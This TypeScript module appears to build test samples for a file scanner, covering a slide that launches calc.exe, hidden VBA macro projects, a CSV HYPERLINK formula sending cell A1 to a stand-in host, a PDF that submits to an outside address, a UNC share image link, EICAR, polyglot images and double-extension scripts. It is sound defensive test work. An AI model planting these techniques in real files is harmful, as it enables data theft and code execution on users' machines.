import { deflateSync } from 'node:zlib'
import {
  dropper,
  macroFolder,
  makeDocx,
  makePdf,
  makeXlsx,
  relationships,
} from '../document/document-samples.ts'
import { makePe } from '../executable/program-samples.ts'
import { makeCompoundFile } from '../formats/compound-sample.ts'
import { diskOf, fatVolume, makeVhdx, ntfsVolume } from '../formats/disk/disk-samples.ts'
import { makeZip } from '../formats/zip-sample.ts'
import { type Sample, sample, word } from './sample.ts'

const host = 'http://files.example.invalid'
const project = () => makeCompoundFile({ VBA: macroFolder({ ThisDocument: dropper }) })
const activeMime = () =>
  Buffer.concat([Buffer.from('ActiveMime'), Buffer.alloc(40), deflateSync(project())])
const eicar = word('X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-', 'ANTIVIRUS-TEST-FILE!$H+H*')
const dot = Buffer.from(
  'GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff!\xf9\x04\x01\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;',
  'latin1',
)

/** An image of one pixel, as small as its format allows. */
const pngDot = () =>
  Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
    'base64',
  )

export const moreDocumentSamples = (): Sample[] => [
  sample(
    'mouse.pptx',
    'a slide that starts a program',
    'document.launch',
    makeZip({
      '[Content_Types].xml': '<Types/>',
      'ppt/presentation.xml': '<p/>',
      'ppt/slides/slide1.xml': '<p:sld><a:hlinkMouseOver action="ppaction://program"/></p:sld>',
      'ppt/slides/_rels/slide1.xml.rels': relationships(['hyperlink', 'calc.exe']),
    }),
  ),
  sample(
    'renamed.docm',
    'macros in a part with another name',
    'document.macros-download',
    makeDocx({
      'word/_rels/document.xml.rels':
        '<Relationships><Relationship Id="1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="theme.dat"/></Relationships>',
      'word/theme.dat': project(),
    }),
  ),
  sample(
    'archive.doc',
    'macros in a page archive',
    'document.macros-download',
    `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<html></html>\r\n--b\r\nContent-Transfer-Encoding: base64\r\nContent-Type: application/x-mso\r\n\r\n${activeMime()
      .toString('base64')
      .replace(/.{76}/g, '$&\r\n')}\r\n--b--\r\n`,
  ),
  sample(
    'flat.xml',
    'macros in XML',
    'document.macros-download',
    `<?xml version="1.0"?><w:wordDocument xmlns:w="x"><w:binData w:name="editdata.mso">${activeMime().toString('base64')}</w:binData></w:wordDocument>`,
  ),
  sample(
    'share.docx',
    'a picture on another machine',
    'document.share',
    makeDocx({
      'word/_rels/document.xml.rels': relationships(['image', '\\\\192.0.2.1\\share\\a.png']),
    }),
  ),
  sample(
    'query.xlsx',
    'a table from elsewhere',
    'document.external-query',
    makeXlsx({
      'xl/connections.xml': `<connections><connection id="1"><webPr url="${host}/a"/></connection></connections>`,
    }),
  ),
  sample(
    'leak.csv',
    'a formula that sends other cells',
    'document.formula-sends',
    `a,b\r\n"=HYPERLINK(""${host}/?x="" & A1,""open"")",1\r\n`,
  ),
  sample(
    'visit.pdf',
    'a PDF that goes to an address',
    'document.opens-elsewhere',
    makePdf([
      '<< /Type /Catalog /OpenAction 2 0 R >>',
      `<< /S /SubmitForm /F << /FS /URL /F (${host}/x) >> >>`,
    ]),
  ),
  sample(
    'data.bin',
    'the test file inside of something',
    'file.test-virus',
    Buffer.concat([Buffer.alloc(70_000, 'abc '), Buffer.from(eicar)]),
  ),
  sample(
    'dot.gif',
    'a picture that is an archive',
    'file.polyglot',
    Buffer.concat([dot, makeZip({ 'a.js': 'WScript.Echo(1)' })]),
  ),
  sample(
    'code.png',
    'a program behind a picture',
    'file.polyglot',
    Buffer.concat([pngDot(), makePe()]),
  ),
  sample(
    'photo2.gif',
    'a script in a picture',
    'file.script-in-picture',
    Buffer.concat([dot, Buffer.from('<?php echo 1; ?>')]),
  ),
  sample(
    'two.zip',
    'two archives in one',
    'archive.two-in-one',
    Buffer.concat([makeZip({ 'a.txt': 'hello' }), makeZip({ 'b.txt': 'world' })]),
  ),
  sample(
    'disk.vhdx',
    'a disk image with a script',
    'archive.name-double',
    makeVhdx(diskOf(ntfsVolume({ 'invoice.pdf.js': Buffer.from('WScript.Echo(1)') }))),
  ),
  sample(
    'disk.img',
    'the same without a form around it',
    'archive.name-double',
    diskOf(fatVolume({ 'invoice.pdf.js': Buffer.from('WScript.Echo(1)') }, 'x')),
  ),
  sample(
    'senders.eml',
    'a mail with two senders',
    'mail.sender-twice',
    'From: Jane <jane@corp.example>\r\nFrom: <x@other.example>\r\nTo: a@corp.example\r\nSubject: x\r\n\r\nhi',
  ),
]
